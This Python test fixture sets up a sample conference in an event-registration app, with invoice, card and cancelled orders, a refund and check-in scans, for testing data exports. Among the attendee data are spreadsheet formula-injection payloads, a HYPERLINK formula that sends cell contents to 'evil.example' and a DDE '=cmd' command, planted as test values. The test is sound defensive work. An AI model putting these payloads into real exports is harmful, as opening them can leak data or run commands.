"""An event with something in every column of every export, and the people who may or may not
download it."""

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa

from eventreg.accounts.models import User
from eventreg.checkin import services as checkin
from eventreg.checkin.services import ListData, OfflineScan, save_list
from eventreg.events.models import QuestionKind, QuestionScope
from eventreg.extensions import db
from eventreg.payments.services import refund_order
from eventreg.registration.services import AttendeeData, OrderData, cancel_order, create_order
from tests.factories import add_question, add_session, invoice_details, make_event, make_user
from tests.web.conftest import demo, english, login  # noqa: F401 (fixtures)

# 12:00 UTC in May is 14:00 in Oslo (summer time).
ORDERED_AT = datetime(2027, 5, 10, 12, 0, tzinfo=UTC)
SCANNED_AT = datetime(2027, 5, 27, 6, 30, tzinfo=UTC)  # 08:30 in Oslo
NAMES = ["Åse Ødegård", "Бо Ли", "陈伟", "نادية"]
INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+47 99 99 99 99", "-2+3", "@SUM(1+1)"]


@dataclass
class Forum:
    invoice_order: str  # Åse (formula as organisation), Бо Ли (refunded), 陈伟: by invoice, paid
    card_order: str  # نادية: pending card payment
    cancelled_order: str  # "=cmd|' /C calc'!A0", free ticket, cancelled


@pytest.fixture
def forum(app) -> Forum:
    """A conference (1 234,50 kr incl. 25 % VAT, and a free ticket) with a workshop, three
    questions (one asked once per order), seven attendees in four orders and a check-in list;
    its organiser olav@, check-in staff door@ and the organiser of another event other@."""
    with app.app_context():
        event = make_event("forum", prices=(1234_50, 0), seats=50)
        paid, free = event.ticket_types
        other = make_event("other", prices=(0,))
        workshop = add_session(event, "Mikrolån", slot="day1")
        org = add_question(event, QuestionKind.ORGANISATION, label="Organisation", position=1)
        diet = add_question(
            event,
            QuestionKind.CHOICE,
            label="Diet",
            position=2,
            choices=[
                {"value": "vegan", "nb": "Vegansk", "en": "Vegan"},
                {"value": "none", "nb": "Ingen", "en": "None"},
            ],
        )
        ref = add_question(event, QuestionKind.TEXT, label="Reference", position=3, scope=QuestionScope.ORDER)
        make_user("olav@example.org", organiser_of=event)
        make_user("other@example.org", organiser_of=other)
        staff = make_user("door@example.org", checkin_of=event)

        def person(name, i, *, tt=paid, organisation="", vegan=True, workshops=()):
            answers = {diet.id: "vegan" if vegan else "none"}
            if organisation:
                answers[org.id] = organisation
            return AttendeeData(
                name=name,
                email=f"p{i}@example.org",
                ticket_type_id=tt.id,
                answers=answers,
                session_ids=[s.id for s in workshops],
            )

        invoice_order = create_order(
            event,
            OrderData(
                buyer_name="Åse Ødegård",
                buyer_email="ase@example.org",
                payment_method="invoice",
                invoice=invoice_details(),
                answers={ref.id: INJECTIONS[1]},
                attendees=[
                    person(NAMES[0], 0, organisation=INJECTIONS[0], workshops=[workshop]),
                    person(NAMES[1], 1, organisation=INJECTIONS[2]),
                    person(NAMES[2], 2, organisation=INJECTIONS[3], vegan=False),
                ],
            ),
            now=ORDERED_AT,
        )
        card_order = create_order(
            event,
            OrderData(
                buyer_name=NAMES[3],
                buyer_email="nadia@example.org",
                payment_method="card",
                answers={ref.id: "R-2"},
                attendees=[person(NAMES[3], 3)],
            ),
            now=ORDERED_AT + timedelta(hours=1),
        )
        cancelled = create_order(
            event,
            OrderData(
                buyer_name="Kari",
                buyer_email="kari@example.org",
                attendees=[person("=cmd|' /C calc'!A0", 4, tt=free)],
            ),
            now=ORDERED_AT + timedelta(hours=2),
        )
        db.session.flush()
        ase, bo, wei = invoice_order.attendees
        main = save_list(event, ListData(name="Main entrance"))
        room = save_list(event, ListData(name="Workshop room"))
        checkin.redeem(main, attendee_id=ase.id, gate="Door 1", user=staff, now=SCANNED_AT)
        checkin.redeem(room, attendee_id=ase.id, gate="Room", user=staff, now=SCANNED_AT + timedelta(hours=2))
        checkin.redeem(
            main, attendee_id=wei.id, gate="Door 2", user=staff, now=SCANNED_AT + timedelta(minutes=5)
        )
        cancel_order(cancelled, now=ORDERED_AT + timedelta(hours=3))
        refund_order(invoice_order, attendee_ids=[bo.id], now=ORDERED_AT + timedelta(days=1), reason="ill")
        # An offline gate let the cancelled attendee in: a conflict.
        checkin.upload_scans(
            main,
            [
                OfflineScan(
                    nonce="offline-1",
                    scanned_at=SCANNED_AT + timedelta(minutes=10),
                    attendee_id=cancelled.attendees[0].id,
                    gate="Side door",
                )
            ],
            user=staff,
            now=SCANNED_AT + timedelta(minutes=20),
        )
        db.session.commit()
        return Forum(invoice_order.code, card_order.code, cancelled.code)


def staff_user(email: str) -> User:
    return db.session.scalar(sa.select(User).where(User.email == email))
